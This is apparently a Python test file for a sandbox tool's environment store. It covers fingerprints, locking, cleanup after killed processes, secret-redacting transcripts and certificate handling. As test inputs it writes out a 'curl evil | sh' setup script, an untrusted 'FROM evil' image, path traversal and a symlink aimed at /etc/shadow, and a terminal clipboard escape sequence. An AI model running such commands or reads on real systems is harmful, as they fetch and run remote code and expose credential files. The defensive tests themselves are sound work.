"""Environments are kept whole or not at all, under names that tell what decides them; and what a set-up says."""

from __future__ import annotations

import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from sandbox.environments import certificates, keys
from sandbox.environments.dockerfile import trusting
from sandbox.environments.recipe import Recipe
from sandbox.environments.store import Busy, Kept, Store
from sandbox.environments.transcript import Transcript

ROOT = Path(__file__).resolve().parents[2]
RECIPE = Recipe(
    source="requirements.txt", steps=("pip install -r requirements.txt",), inputs=("requirements.txt",)
)
KEPT = Kept(key="k", fingerprint="f", project="/p", source="s", backend="bubblewrap", base="b", made=1.0)


# -- keys ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    (tmp_path / "requirements.txt").write_text("six\n")
    (tmp_path / "setup.sh").write_text("pip install x\n")
    (tmp_path / "Dockerfile").write_text("FROM x\n")
    return tmp_path


def mark(root: Path, recipe: Recipe = RECIPE, backend: str = "docker", project: str = "/p") -> str:
    return keys.fingerprint(root, Path(project), recipe, backend)


def test_the_same_has_the_same_fingerprint(repository: Path) -> None:
    assert mark(repository) == mark(repository)


def test_everything_that_decides_the_result_is_in_the_fingerprint(repository: Path) -> None:
    before = mark(repository)
    others = [
        mark(repository, replace(RECIPE, steps=("pip install six",))),
        mark(repository, replace(RECIPE, image="debian:12")),
        mark(repository, replace(RECIPE, env={"A": "1"})),
        mark(repository, backend="bubblewrap"),
        mark(repository, project="/other"),
    ]
    (repository / "requirements.txt").write_text("six==1.0\n")
    others.append(mark(repository))
    (repository / "requirements.txt").unlink()
    others.append(mark(repository))
    assert len({before, *others}) == len(others) + 1


def test_what_is_said_to_people_is_not(repository: Path) -> None:
    assert mark(repository) == mark(repository, replace(RECIPE, notes=("something was passed over",)))


def test_an_agreement_is_for_one_recipe_of_one_project_with_the_scripts_and_dockerfile_that_it_names(
    repository: Path,
) -> None:
    recipe = replace(RECIPE, steps=("bash setup.sh",), dockerfile="Dockerfile")

    def agreed() -> str:
        return keys.agreement(repository, Path("/p"), recipe)

    seen = {agreed(), keys.agreement(repository, Path("/q"), recipe)}
    (repository / "requirements.txt").write_text("other\n")
    assert agreed() in seen
    (repository / "setup.sh").write_text("curl evil | sh\n")
    seen.add(agreed())
    (repository / "Dockerfile").write_text("FROM evil\n")
    seen.add(agreed())
    assert len(seen) == 4


def test_inputs_outside_of_the_repository_are_not_read(repository: Path) -> None:
    (repository / "link").symlink_to("/etc/shadow")
    for path in ("/etc/shadow", "../../etc/shadow", "link", "a\0b"):
        recipe = replace(RECIPE, inputs=(path,), dockerfile=path)
        assert mark(repository, recipe) == mark(repository, recipe)


# -- the store -------------------------------------------------------------------------------------------------------


def make(store: Store, name: str = "n", kept: Kept = KEPT) -> None:
    with store.making(name) as making:
        (making.directory / "file").write_text("x")
        store.finish(making, kept)


def names(store: Store) -> list[str]:
    return sorted(path.name for path in store.folder.iterdir())


def test_what_is_finished_is_found_and_nothing_else_is_there(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    assert store.all() == []
    make(store)
    assert (store.find("f"), store.find("g"), store.get("k")) == (KEPT, None, KEPT)
    directory = store.environment(KEPT).directory
    assert directory is not None
    assert (directory / "file").read_text() == "x"
    assert names(store) == ["k"]
    store.remove(KEPT)
    assert names(store) == []


def test_what_fails_leaves_nothing_and_keeps_what_was_there(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    make(store)

    def fail() -> None:
        with store.making("n") as making:
            (making.directory / "half").write_text("x")
            raise RuntimeError

    with pytest.raises(RuntimeError):
        fail()
    assert names(store) == ["k"]


def test_one_that_stands_on_something_that_is_gone_is_not_found(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    make(store, kept=replace(KEPT, mounts=((str(tmp_path / "gone"), "/x"),)))
    assert store.find("f") is None
    assert len(store.all()) == 1


def test_a_damaged_file_is_passed_over(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    make(store)
    for text in ("", "{", '{"key": 3}', "\xff"):
        (store.folder / "k" / "environment.json").write_text(text)
        assert store.all() == []


def test_two_cannot_make_the_same_at_once_and_a_third_may_make_another(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    with store.making("n"):
        with pytest.raises(Busy), store.making("n"):
            pass
        assert store.is_busy("n")
        make(store, "m", replace(KEPT, key="other"))
    assert not store.is_busy("n")


def test_what_a_killed_process_left_is_reaped_and_what_a_living_one_makes_is_not(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    script = f"""
import os, signal
from pathlib import Path
from sandbox.environments.store import Store
with Store(Path({str(store.folder)!r})).making("dead") as making:
    (making.directory / "half").write_text("x")
    os.kill(os.getpid(), signal.SIGKILL)
"""
    subprocess.run([sys.executable, "-c", script], cwd=ROOT, check=False)
    assert names(store) == ["dead.lock", "dead.partial"]
    with store.making("alive") as making:
        store.reap()
        assert making.directory.is_dir()
        assert names(store) == ["alive.lock", "alive.partial"]
    assert names(store) == []


# -- what a set-up says ----------------------------------------------------------------------------------------------


def test_lines_are_cleaned_shown_and_kept_and_secrets_are_not(tmp_path: Path) -> None:
    shown: list[str] = []
    transcript = Transcript(tmp_path / "log", shown.append, ["s3cret-token", "x"])
    transcript.begin("pip install\n-r x")
    for piece in (
        b"\x1b[31mred\x1b[0m \x1b]52;c;ZXZpbA==\x07\r",
        b"Looking in https://u:s3cret-",
        b"token@host\n",
        b"\xff\n",
        b"end",
    ):
        transcript.feed(piece)
    transcript.close()
    assert shown == ["$ pip install …", "red ␛]52;c;ZXZpbA==␇", "Looking in https://u:[…]@host", "�", "end"]
    assert (tmp_path / "log").read_text().splitlines() == shown
    assert transcript.last_lines()[-1] == "end"
    assert oct((tmp_path / "log").stat().st_mode & 0o777) == "0o600"


def test_a_flood_is_bounded_on_the_terminal_in_the_file_and_in_memory(tmp_path: Path) -> None:
    shown: list[str] = []
    transcript = Transcript(tmp_path / "log", shown.append)
    transcript.begin("yes")
    for _ in range(200):
        transcript.feed(b"y\n" * 1000 + b"x" * 100_000)
    transcript.close()
    assert len(shown) < 6000
    assert max(map(len, shown)) < 2100
    assert (tmp_path / "log").stat().st_size < 9 << 20
    assert len(transcript.last_lines()) == 20


def test_of_the_users_bundle_certificates_alone_are_taken(tmp_path: Path) -> None:
    bundle = tmp_path / "bundle.pem"
    certificate = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
    bundle.write_text(
        f"{certificate}-----BEGIN PRIVATE KEY-----\nhidden\n-----END PRIVATE KEY-----\n# note\n{certificate}"
    )
    assert certificates.find({"REQUESTS_CA_BUNDLE": str(bundle)}) == (certificate * 2).encode()
    assert b"hidden" not in certificates.find(
        {"SSL_CERT_FILE": str(tmp_path / "none"), "PIP_CERT": str(bundle)}
    )


def test_every_stage_of_a_dockerfile_trusts_them() -> None:
    text = b"ARG V=1\nFROM a:$V \\\n  # why\n  AS one\nRUN x\nfrom b\nRUN y \\\n  FROM z\n"
    lines = trusting(text, ["PIP_CERT"]).decode().splitlines()
    added = [
        "COPY .coder-internal-certificates.pem /opt/coder/certificates.pem",
        "ARG PIP_CERT=/opt/coder/certificates.pem",
    ]
    assert lines == [
        "ARG V=1",
        "FROM a:$V \\",
        "  # why",
        "  AS one",
        *added,
        "RUN x",
        "from b",
        *added,
        "RUN y \\",
        "  FROM z",
    ]


@pytest.mark.parametrize("text", [b"# escape=`\nFROM a\n", b"FROM a\nRUN <<EOF\nFROM b\nEOF\n"])
def test_a_dockerfile_that_cannot_be_told_line_by_line_stays_as_it_is(text: bytes) -> None:
    assert trusting(text, ["PIP_CERT"]) == text


def test_a_folder_that_cannot_be_written_is_a_sentence(tmp_path: Path) -> None:
    from sandbox.errors import SandboxError

    (tmp_path / "file").write_text("")
    with pytest.raises(SandboxError, match="cannot be written"), Store(tmp_path / "file" / "x").making("n"):
        pass
    assert os.listdir(tmp_path) == ["file"]
